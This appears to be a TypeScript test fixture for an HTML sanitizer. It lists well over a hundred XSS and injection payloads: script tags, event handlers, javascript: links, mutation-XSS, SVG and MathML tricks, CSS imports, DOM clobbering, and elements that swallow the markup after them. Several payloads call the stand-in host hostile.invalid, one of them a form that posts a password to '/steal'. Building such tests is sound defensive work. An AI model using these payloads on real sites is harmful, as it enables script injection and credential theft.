/*
 * HTML that tries to run (`trap()`) or to fetch (from hostile.invalid). Some takes a name of the page, or paints
 * outside of its own frame. Each stands for one way in; the page must show it as an article in which none of them
 * works.
 */

const HERE = 'https://hostile.invalid'

const SCRIPTS = [
  '<script>trap()</script>',
  `<script src="${HERE}/x.js"></script>`,
  '<SCRIPT/XSS SRC="data:text/javascript,trap()"></SCRIPT>',
  '<scr<script>ipt>trap()</scr</script>ipt>',
  '<script type="module">trap()</script>',
  '<script\u0000>trap()</script>',
  '<<script>trap();//<</script>',
  '<script>/*<!--*/trap()//--></script>',
  '<p><script>document.body.innerHTML = ""</script>after</p>',
]

const HANDLERS = [
  '<img src=x onerror=trap()>',
  '<img src=x onerror="&#116;rap()">',
  '<img/src="x"/onerror=trap()>',
  '<img src=x:x onerror\u000a=trap()>',
  '<IMG SRC=x ONERROR=trap()>',
  '<img src="x` `<script>trap()</script>"` `>',
  '<p onclick=trap() onmouseover=trap() onfocus=trap() tabindex=0 autofocus>p</p>',
  '<a href="#" onfocus=trap() autofocus>focus</a>',
  '<body onload=trap() onpageshow=trap()>',
  '<video src=x onerror=trap()></video>',
  '<audio src=x onerror=trap() autoplay></audio>',
  '<video><source onerror=trap() src=x></video>',
  '<details open ontoggle=trap()><summary>s</summary>d</details>',
  '<marquee onstart=trap()>m</marquee>',
  '<div onanimationstart=trap() style="animation: spin 1s">a</div>',
  '<div onpointerrawupdate=trap() onwheel=trap() onscroll=trap()>w</div>',
  '<p oncontentvisibilityautostatechange=trap() style="content-visibility:auto">c</p>',
  '<img src=x onerror=trap() alt="--><img src=x onerror=trap()>">',
]

const SVG_AND_MATHML = [
  '<svg onload=trap()></svg>',
  '<svg><script>trap()</script></svg>',
  `<svg><script href="${HERE}/x.js"/></svg>`,
  '<svg><animate onbegin=trap() attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:trap()"><text y=20>x</text></a></svg>',
  '<svg><set attributeName=href to="javascript:trap()" /></svg>',
  `<svg><use href="${HERE}/x.svg#a"/></svg>`,
  '<svg><foreignObject><img src=x onerror=trap()></foreignObject></svg>',
  `<svg><image href="${HERE}/x.png"/></svg>`,
  `<svg><style>@import "${HERE}/x.css"; p{display:none}</style></svg>`,
  '<math><mi//xlink:href="data:x,<script>trap()</script>">x</mi></math>',
  '<math href="javascript:trap()">x</math>',
  '<math><maction actiontype="statusline#" xlink:href="javascript:trap()">x</maction></math>',
  "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.trap()'/>\">",
]

const MUTATION = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=trap()&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=trap()>',
  '<svg></p><style><a id="</style><img src=x onerror=trap()>">',
  '<math><mtext><table><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=trap()>">',
  '<svg><desc><style><a title="</style><img src=x onerror=trap()>">',
  '<noscript><p title="</noscript><img src=x onerror=trap()>"></noscript>',
  '<listing>&lt;img src=x onerror=trap()&gt;</listing>',
  '<table><tr><td><math><annotation-xml encoding="text/html"><img src=x onerror=trap()></annotation-xml></math></td></tr></table>',
  '<svg><title><![CDATA[</title><img src=x onerror=trap()>]]></title></svg>',
  '<p><svg><![CDATA[><img src=x onerror=trap()>]]></svg></p>',
  '<select><template><img src=x onerror=trap()></template></select>',
  '<a title="&quot;&gt;&lt;img src=x onerror=trap()&gt;">quoted</a>',
  '<table><caption><img src=x onerror=trap()></table><td><img src=x onerror=trap()>',
]

const LINKS = [
  '<a href="javascript:trap()">plain</a>',
  '<a href="JaVaScRiPt:trap()">case</a>',
  '<a href="&#106;&#97;&#118;&#97;script:trap()">decimal</a>',
  '<a href="&#x6A;avascript&colon;trap()">named</a>',
  '<a href="java\tscript:trap()">tab</a>',
  '<a href="java&NewLine;script:trap()">line</a>',
  '<a href="\u0001javascript:trap()">control</a>',
  '<a href="  javascript:trap()">spaces</a>',
  '<a href="javascript&#0058;trap()">colon</a>',
  '<a href="javascript://hostile.invalid/%0atrap()">comment</a>',
  '<a href="vbscript:msgbox(1)">vbscript</a>',
  '<a href="data:text/html,<script>opener.trap()</script>">data</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5vcGVuZXIudHJhcCgpPC9zY3JpcHQ+">base64</a>',
  '<a href="blob:https://hostile.invalid/1">blob</a>',
  '<a href="file:////etc/passwd">file</a>',
  '<a href="//hostile.invalid/relative">without a scheme</a>',
  `<a href="${HERE}/opener" target="_self" rel="opener" ping="${HERE}/ping" download>opener</a>`,
  '<a href="%6A%61vascript:trap()">percent</a>',
  '<a href="feed:javascript:trap()">nested scheme</a>',
  '<a xlink:href="javascript:trap()" href="http://[">damaged</a>',
]

const STYLES = [
  `<style>@import "${HERE}/x.css"; body { display: none }</style>`,
  `<p style="background: url(${HERE}/x.png)">url</p>`,
  '<p style="position: fixed; inset: 0; z-index: 99999; background: red">fixed</p>',
  '<div style="margin-top: -2000px; position: relative; z-index: 99">up</div>',
  '<div style="width: expression(trap()); behavior: url(#default#time2)">expression</div>',
  `<link rel="stylesheet" href="${HERE}/x.css">`,
  '<div class="fixed inset-0 z-50 bg-primary">class of the page</div>',
  `<table background="${HERE}/x.png"><tr><td background="${HERE}/y.png">background</td></tr></table>`,
  `<p style="list-style: \\75rl(${HERE}/z.png)">escaped</p>`,
]

const EMBEDDED = [
  '<iframe src="javascript:parent.trap()"></iframe>',
  '<iframe srcdoc="<script>parent.trap()</script>"></iframe>',
  `<object data="${HERE}/x.html"></object>`,
  '<embed src="javascript:trap()">',
  `<frameset><frame src="${HERE}/x.html"></frameset>`,
  `<base href="${HERE}/">`,
  `<meta http-equiv="refresh" content="0; url=${HERE}/">`,
  '<meta http-equiv="Set-Cookie" content="trap=1">',
  `<img src="${HERE}/tracker.png" alt="校门"><a href="${HERE}/a"><img src="//hostile.invalid/b.png"></a>`,
  `<img srcset="${HERE}/x.png 1x" src="ftp://hostile.invalid/x.png">`,
  `<img srcset="${HERE}/x.png 1x" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="srcset">`,
  `<picture><source srcset="${HERE}/x.png"><img alt="p"></picture>`,
  `<video poster="${HERE}/x.png" controls><track src="${HERE}/x.vtt"></video>`,
  `<link rel="prefetch" href="${HERE}/prefetch"><link rel="manifest" href="${HERE}/manifest">`,
  '<portal src="https://hostile.invalid/"></portal>',
]

const FORMS = [
  `<form action="${HERE}/steal"><input name="password" type="password"><button>登录</button></form>`,
  `<button formaction="javascript:trap()" form="page">formaction</button>`,
  '<input type="image" src=x onerror=trap()>',
  '<input onfocus=trap() autofocus>',
  '<select onfocus=trap() autofocus><option>1</select>',
  '<textarea onfocus=trap() autofocus></textarea>',
  '<isindex action="javascript:trap()" type=image>',
  '<dialog open>dialog</dialog><div popover id="content">popover</div>',
]

const NAMES = [
  '<a id="content" name="content">takes the id of the page</a>',
  '<img name="getElementById"><img name="createElement"><img name="cookie">',
  '<form id="attributes" name="body"><input name="attributes"><input name="parentNode"></form>',
  '<a id="trap"></a><a id="trap" name="length"></a>',
  '<p id="__proto__" data-mounted="no" slot="x" is="x-y" part="z">prototype</p>',
  '<x-hostile onclick=trap()>an element of nobody</x-hostile>',
  '<div contenteditable role="alert" aria-live="assertive" aria-label="x" accesskey="x" draggable="true">attributes</div>',
]

/** These swallow what follows them. */
const SWALLOWING = [
  '<!--><img src=x onerror=trap()>-->',
  '<!-- --!><img src=x onerror=trap()> -->',
  '<template shadowrootmode="open"><img src=x onerror=trap()><script>trap()</script></template>',
  '<xmp><p title="</xmp><img src=x onerror=trap()>"></xmp>',
  '<noembed><p title="</noembed><img src=x onerror=trap()>"></noembed>',
  '<title><p title="</title><img src=x onerror=trap()>"></title>',
  '<textarea><p title="</textarea><img src=x onerror=trap()>"></textarea>',
  '<iframe><p title="</iframe><img src=x onerror=trap()>"></iframe>',
  `${'<div>'.repeat(600)}<img src=x onerror=trap()>`,
  '</article></main></body></html><script>trap()</script><p>after the end</p>',
  '<?xml-stylesheet href="javascript:trap()"?><!DOCTYPE html [<!ENTITY x "trap()">]><img src=x onerror="&x;">',
  '<plaintext><img src=x onerror=trap()>',
]

/** In the order in which they leave the most of each other when all stand in one article: an open SVG takes the rest. */
export const HOSTILE_HTML: readonly string[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...LINKS,
  ...STYLES,
  ...EMBEDDED,
  ...FORMS,
  ...NAMES,
  ...SVG_AND_MATHML,
  ...MUTATION,
  ...SWALLOWING,
]
